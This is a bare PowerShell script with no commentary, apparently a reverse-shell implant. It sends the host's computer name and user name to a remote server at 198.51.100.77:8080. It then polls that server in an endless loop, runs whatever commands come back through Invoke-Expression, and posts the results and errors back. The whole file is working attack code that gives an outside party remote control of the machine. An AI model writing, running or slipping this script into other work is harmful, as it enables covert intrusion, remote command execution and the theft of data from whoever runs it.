$s = '198.51.100.77:8080'
$i = '7f3a91c2-6b1d-4e0a-9c55-2d8e1f0b7a34'
$p = 'http://'
$h = @{ 'X-Session' = $i }
$null = Invoke-WebRequest -UseBasicParsing -Uri "$p$s/7f3a91c2/$env:COMPUTERNAME/$env:USERNAME" -Headers $h
while ($true) {
  $c = (Invoke-WebRequest -UseBasicParsing -Uri "$p$s/6b1d4e0a" -Headers $h).Content
  if ($c -ne 'None') {
    $r = Invoke-Expression $c -ErrorAction Stop -ErrorVariable e
    $r = Out-String -InputObject $r
    $null = Invoke-WebRequest -Uri "$p$s/9c552d8e" -Method POST -Headers $h -Body ([System.Text.Encoding]::UTF8.GetBytes($e + $r) -join ' ')
  }
  Start-Sleep 0.8
}
